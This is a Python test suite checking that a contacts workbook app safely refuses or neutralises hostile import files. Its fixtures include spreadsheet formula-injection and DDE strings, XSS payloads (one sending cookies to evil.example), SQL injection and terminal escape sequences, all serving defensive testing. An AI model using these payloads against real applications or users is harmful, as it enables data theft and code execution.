"""Hostile and malformed files go through the real import path (plan_import, then apply_import,
as the CLI and the import widget do) into a workbook that already holds the sample network.

Each file in tests/data/hostile is listed in its README with the expected outcome. Refused: a
FormatError whose one printable line names the file, and the workbook's SQLite file and WAL are
unchanged to the byte. Imported: stored text is exactly what was typed (markup stays text) and the
CSV export quotes every cell a spreadsheet would run. Any other exception fails the test. Files
too big to commit are generated here."""

import binascii
import csv
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from workbook.cli import main
from workbook.formats import FormatError, apply_import, export_csv, export_ics, export_json, export_vcard, plan_import
from workbook.formats.common import MAX_BYTES
from workbook.formats.csvfile import FORMULA_STARTS, restored
from workbook.sample import populate
from workbook.store import Store
from workbook.widgets.importer import ImportContacts

HOSTILE = Path(__file__).parent / "data" / "hostile"
FILES = sorted(path for path in HOSTILE.iterdir() if path.name != "README.md")
TABLE_ROW = re.compile(r"^\| `(?P<file>[^`]+)` \| .+ \| (?P<outcome>refused|imported)\b[^|]*\|$", re.MULTILINE)
EXPECTED = {m["file"]: m["outcome"] for m in TABLE_ROW.finditer((HOSTILE / "README.md").read_text(encoding="utf-8"))}

CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")  # what the model refuses in any text
ONE_LINE = ("name", "company", "position", "email", "url", "phone")
LINKEDIN_HEADER = b"First Name,Last Name,URL,Email Address,Company,Position,Connected On\r\n"

# What a refusal (or the problems that caused it) must say, beyond naming the file.
SAYS = {
    "linkedin-date-overflow.csv": "line 5: 'Connected On' is '01 Jan 99999999999999999999999', not a date like '12 Mar 2024'",
    "linkedin-date-other-digits.csv": "line 5: 'Connected On' is",
    "linkedin-cr-inside-name.csv": "line 6: Name contains a line break",
    "linkedin-terminal-escape.csv": "line 6: Company contains control characters",
    "linkedin-invalid-utf8.csv": "line 3: Company contains control characters (U+0081)",
    "linkedin-duplicated-header.csv": "line 1: the LinkedIn header repeats the column(s) 'Company'",
    "google-duplicated-header.csv": "line 1: the Google Contacts header repeats the column(s) 'Notes'",
    "workbook-csv-duplicated-header.csv": "line 1: the workbook contacts header repeats the column(s) 'name'",
    "linkedin-utf16-no-bom.csv": "UTF-16 text without a byte order mark",
    "linkedin-png-renamed.csv": "this is a PNG image",
    "vcard-escape-in-bad-line.vcf": "line 1: the card for 'Ana Lima' cannot be read: line 4 does not start with a property name: '\\x1b[2J\\x1b[31mthis line has no colon'",
    "vcard-nested-begin.vcf": "line 1: the card for 'Outer' cannot be read: it has no END:VCARD before the next card begins on line 4; that card was left out",
    "vcard-photo-junk-base64.vcf": "line 1: the card for 'Photo Junk': its photo is damaged; the card was imported without it",
    "backup-future-schema.json": "this export comes from a newer workbook (schema 99; this one knows",
    "backup-schema-version-text.json": "'schema_version' is '3; DROP TABLE contacts', not a version number",
    "backup-duplicate-keys.json": "the key 'contacts' appears twice",
    "backup-nan.json": "the JSON holds NaN",
    "backup-huge-integer.json": "'cadence_days' is a whole number too large to store",
    "backup-lone-surrogate.json": "'name' holds text that is not valid Unicode",
    "backup-empty-record.json": "record 1 of 'contacts' is empty",
    "backup-no-tables.json": "holds none of the workbook's tables",
    "backup-bad-time.json": "'start_time' is '25:99', not a time like 08:30",
    "backup-unknown-kind.json": "'kind' is '<script>', not one of introduction",
    "backup-missing-contact.json": "the backup's records do not fit together",
    "calendar-follow-ups.ics": "this is an iCalendar (.ics) file",
    "calendar-named-csv.csv": "this is an iCalendar (.ics) file",
    "backup-unknown-table.json": "left out the '\\x1b[2Jwipe' table",
}

# Text that must be stored exactly as the file has it: markup and formulas are data, not code.
STORED_AS_TYPED = {
    "linkedin-formula-cells.csv": ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3",
                                   "@SUM(A1:A9)", "=1+1 Tabbed", "=2+2"],
    "linkedin-html-script.csv": ["<script>alert(1)</script> Smith", "<img src=x onerror=alert(1)>", "</td><b>bold</b>",
                                 "Robert'); DROP TABLE contacts;-- Tables", "&lt;&amp;&gt;"],
    "linkedin-bidi-zero-width.csv": ["Eve\u202egnp.exe Mallory", "Zero\u200bWidth\u200dCo", "Ad\ufeffam Zw\u200cnj"],
    "linkedin-mixed-encodings.csv": ["Renée François"],
    "google-formula-cells.csv": ["=Luca Ferri", "+Acme", '@SUM(A1)\n=HYPERLINK("http://evil.example")', "=cmd",
                                 "=1+1@example.com", '=HYPERLINK("x")'],
    "google-html-notes.csv": ["<img src=x onerror=alert(1)> Okoye", "<b>Bold Co</b>", "<u>Label</u>",
                              "<script>fetch('//evil.example/'+document.cookie)</script>\n<iframe src=javascript:alert(1)>"],
    "google-numbered-gaps.csv": ["second@example.com", "+34 555 0107"],
    "workbook-csv-quoted-formulas.csv": ["=Ana", "@Acme", "-lead", "+cmd", "'already quoted", "Tabbed"],
    "workbook-csv-raw-formulas.csv": ['=HYPERLINK("http://evil.example","x")', "=1+1", "@SUM(A1)", "-2+3", "+cmd"],
    "vcard-html-script.vcf": ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
                              '<a href="javascript:alert(1)">click</a>\n<style>*{display:none}</style>'],
    "vcard-formula-values.vcf": ["=1+1", "+cmd", "-2+3", "@SUM(A1)@example.com", '=HYPERLINK("http://evil.example","x")'],
    "vcard4-pref-abuse.vcf": ["first@example.com"],
    "vcard-utf16-be-bom.vcf": ["Zoë & 渡辺"],
    "vcard-uid-hijack.vcf": ["Not Ada", "google:mailto:ada@example.org<script>"],
    "backup-html-and-formulas.json": ["<script>alert(1)</script>", "+cmd\n@SUM(A1)\n<img src=x onerror=alert(1)>", "-2+3 \u202eevil"],
}


@pytest.fixture
def workbook(store):
    """The learner's default workbook (what the CLI opens), holding the sample network."""
    return populate(store)


def snapshot(store):
    """Everything that shows whether a store changed: its tables and its files' bytes."""
    files = [store.path, store.path.with_name(store.path.name + "-wal")]
    return store.backup.dump(), [f.read_bytes() if f.exists() else None for f in files]


def import_file(path: Path, store) -> tuple[str, list[str]]:
    """Import as the CLI does ('import PATH --replace', so a backup's content decides, not the
    workbook's data); return 'refused' or 'imported' and everything the import said."""
    said = []
    try:
        report = plan_import(path, None, store, replace=True)
        said += report.messages()
        apply_import(report, store)
    except FormatError as refusal:
        return "refused", [str(refusal), *said]
    return "imported", said


def check(path: Path, expected: str, says: str, store, folder: Path) -> None:
    before = snapshot(store)
    outcome, said = import_file(path, store)
    assert outcome == expected, said
    for message in said:
        assert message.startswith(f"{path}: "), message
        assert message.isprintable(), f"one line, with nothing a terminal would act on: {message!r}"
    assert says in " ".join(said)
    if outcome == "refused":
        assert snapshot(store) == before
        return
    if path.suffix == ".json":
        assert_restored_as_in_the_file(store, path)
    else:
        assert_kept_everything_else(store, before[0])
    stored = {value for rows in store.backup.dump().values() for row in rows for value in row.values()}
    assert set(STORED_AS_TYPED.get(path.name, [])) <= stored
    assert_contacts_are_clean(store)
    assert_exports_are_inert(store, folder)


def assert_restored_as_in_the_file(store, path: Path) -> None:
    """A restore replaces every table with the backup's records, value for value."""
    tables = store.backup.dump()
    for name, rows in json.loads(path.read_text(encoding="utf-8-sig")).items():
        if name in tables:
            assert [{column: stored[column] for column in row} for stored, row in zip(tables[name], rows, strict=True)] == rows


def assert_kept_everything_else(store, before: dict) -> None:
    """A contacts import adds and updates contacts, and touches nothing else."""
    after = store.backup.dump()
    assert {name: rows for name, rows in after.items() if name != "contacts"} == {
        name: rows for name, rows in before.items() if name != "contacts"}
    assert {row["id"] for row in before["contacts"]} <= {row["id"] for row in after["contacts"]}


def assert_contacts_are_clean(store) -> None:
    for contact in store.backup.records("contacts"):
        for column, value in contact.items():
            if isinstance(value, str):
                assert not CONTROL.search(value), (column, value)
                assert not (column in ONE_LINE and re.search(r"[\r\n\t]", value)), (column, value)


def assert_exports_are_inert(store, folder: Path) -> None:
    """Every export still works, and no CSV cell would run as a formula; reading a contacts
    cell back (minus the one protective quote) gives the stored value."""
    export_csv(store, folder / "out.csv")
    for name in ("out-contacts.csv", "out-exchanges.csv"):
        assert not [cell for row in rows_of(folder / name) for cell in row if cell.startswith(FORMULA_STARTS)]
    header, *cells = rows_of(folder / "out-contacts.csv")
    for contact, row in zip(store.backup.records("contacts"), cells, strict=True):
        assert [restored(cell) for cell in row] == ["" if contact[c] is None else str(contact[c]) for c in header]
    export_vcard(store, folder / "out.vcf")
    export_ics(store, folder / "out.ics")
    export_json(store, folder / "out.json")


def rows_of(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_the_corpus_is_listed_in_its_readme():
    assert len(FILES) >= 40
    assert sorted(EXPECTED) == [path.name for path in FILES]


@pytest.mark.parametrize("path", FILES, ids=[path.name for path in FILES])
def test_each_hostile_file_is_refused_or_imported_safely(path, workbook, tmp_path):
    check(path, EXPECTED[path.name], SAYS.get(path.name, ""), workbook, tmp_path)


# --- generated: too big to commit -----------------------------------------------------------------


def over_the_size_limit(path: Path) -> None:
    with path.open("wb") as out:
        out.write(LINKEDIN_HEADER)
        out.truncate(MAX_BYTES + 1)  # sparse: nothing like 50 MB reaches the disk


def two_megabyte_field(path: Path) -> None:
    path.write_bytes(LINKEDIN_HEADER + b"Ana,Lima,https://www.linkedin.com/in/ana,,Acme,\"" + b"x" * 2_000_000 + b"\",02 Jan 2020\r\n")


def hundred_thousand_columns(path: Path) -> None:
    extra = 100_000
    header = b",".join(b"Column %d" % n for n in range(extra)) + b"," + LINKEDIN_HEADER
    row = b"," * extra + b"Wide,Row,https://www.linkedin.com/in/wide,,Acme,Clerk,03 Jan 2020\r\n"
    path.write_bytes(header + row)


def ten_thousand_properties(path: Path) -> None:
    emails = b"".join(b"EMAIL:person%d@example.com\r\n" % n for n in range(10_000))
    path.write_bytes(b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Many Mails\r\n" + emails + b"END:VCARD\r\n")


def nested_card(path: Path) -> None:
    depth = 3_000
    path.write_bytes(b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Deep\r\n" + b"BEGIN:X-NEST\r\n" * depth + b"END:X-NEST\r\n" * depth + b"END:VCARD\r\n")


def quoted_printable_six_megabytes(path: Path) -> None:
    """A million quoted-printable characters in 80,000 soft-broken lines (joining them one by one
    into a growing string took half a minute)."""
    note = binascii.b2a_qp(("é" * 1_000_000).encode(), quotetabs=True).replace(b"=\n", b"=\r\n")
    path.write_bytes(b"BEGIN:VCARD\r\nVERSION:2.1\r\nFN:Long Note\r\nNOTE;ENCODING=QUOTED-PRINTABLE:" + note + b"\r\nEND:VCARD\r\n")


def nested_json(path: Path) -> None:
    depth = 100_000
    path.write_bytes(b'{"format": "networking-workbook", "version": 1, "schema_version": 3, "contacts": '
                     + b"[" * depth + b"]" * depth + b"}")


GENERATED = {
    "over-the-size-limit.csv": (over_the_size_limit, "refused", "the file is larger than 50 MB"),
    "two-megabyte-field.csv": (two_megabyte_field, "refused", "line 2: a field is longer than 131,072 characters"),
    "hundred-thousand-columns.csv": (hundred_thousand_columns, "imported", ""),
    "ten-thousand-properties.vcf": (ten_thousand_properties, "imported", ""),
    "nested-three-thousand-deep.vcf": (nested_card, "refused", "line 1: the card for 'Deep' cannot be read: it nests BEGIN ... END blocks too deeply"),
    "nested-100k-deep.json": (nested_json, "refused", "the JSON is nested far deeper than any export"),
    "quoted-printable-six-megabytes.vcf": (quoted_printable_six_megabytes, "refused",
                                           "line 1: the card for 'Long Note' cannot be imported: Notes is 1,000,000 characters long"),
}


@pytest.mark.parametrize("name", GENERATED)
def test_generated_hostile_files(name, workbook, tmp_path):
    make, expected, says = GENERATED[name]
    path = tmp_path / name
    make(path)
    check(path, expected, says, workbook, tmp_path)


def test_ten_thousand_emails_keep_the_first(workbook, tmp_path):
    ten_thousand_properties(tmp_path / "many.vcf")
    apply_import(plan_import(tmp_path / "many.vcf", None, workbook), workbook)
    [contact] = [c for c in workbook.backup.records("contacts") if c["name"] == "Many Mails"]
    assert contact["email"] == "person0@example.com"


# --- the same files through the command line ------------------------------------------------------


def run_cli(*args, capsys) -> subprocess.CompletedProcess:
    status = main([str(arg) for arg in args])
    out, err = capsys.readouterr()
    return subprocess.CompletedProcess(args, status, out, err)


def in_subprocess(*args) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "workbook", *map(str, args)],
                          capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=120)


def assert_refused_on_the_command_line(result, path: Path) -> None:
    assert result.returncode == 2, result
    assert f"workbook: {path}: " in result.stderr
    assert "Traceback" not in result.stderr and "\x1b" not in result.stderr
    assert SAYS.get(path.name, "") in result.stderr


CLI_FILES = ["linkedin-cr-inside-name.csv", "backup-huge-integer.json", "backup-empty-record.json",
             "vcard-escape-in-bad-line.vcf", "linkedin-utf16-no-bom.csv", "calendar-follow-ups.ics"]


@pytest.mark.parametrize("name", CLI_FILES)
def test_refusals_on_the_command_line(name, workbook, capsys):
    path = HOSTILE / name
    before = snapshot(workbook)
    assert_refused_on_the_command_line(run_cli("import", path, "--replace", capsys=capsys), path)
    assert snapshot(workbook) == before


@pytest.mark.parametrize("name", ["linkedin-terminal-escape.csv", "backup-lone-surrogate.json"])
def test_refusals_end_to_end(name, workbook):
    """In a second interpreter: what the learner's terminal gets, start to finish. The workbook is
    closed first, as when the learner runs the command, so its WAL is folded in and gone; the
    file must come out of the refusal identical."""
    path, data_file = HOSTILE / name, workbook.path
    tables = workbook.backup.dump()
    workbook.close()
    before = data_file.read_bytes()
    assert_refused_on_the_command_line(in_subprocess("import", path, "--replace"), path)
    assert data_file.read_bytes() == before and not data_file.with_name(data_file.name + "-wal").exists()
    reopened = Store(data_file)
    assert reopened.backup.dump() == tables
    reopened.close()


def test_notices_quoting_the_file_cannot_drive_the_terminal(workbook, capsys):
    path = HOSTILE / "backup-unknown-table.json"
    result = run_cli("import", path, "--replace", capsys=capsys)
    assert result.returncode == 0, result.stderr
    assert f"workbook: {path}: left out the '\\x1b[2Jwipe' table" in result.stderr
    assert "\x1b" not in result.stderr + result.stdout


def test_the_import_widget_shows_a_refusal_without_raising(workbook):
    path = HOSTILE / "linkedin-terminal-escape.csv"
    tool = ImportContacts(workbook)
    report = tool.preview(path.read_bytes(), path.name)
    assert report is not None and not report.ok and tool.import_button.disabled
    assert "linkedin-terminal-escape.csv: line 6: " in tool.report_view.value
    assert tool.run() is None and "Nothing imported" in tool.status.text
